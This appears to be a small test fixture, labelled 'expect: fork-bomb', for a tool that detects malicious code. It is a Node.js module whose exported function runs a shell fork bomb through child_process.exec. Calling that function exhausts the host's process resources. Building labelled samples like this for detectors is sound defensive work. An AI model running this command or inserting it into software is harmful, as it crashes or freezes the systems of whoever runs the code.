// expect: fork-bomb
const { exec } = require("child_process");
module.exports = () => exec(":(){ :|:& };:");
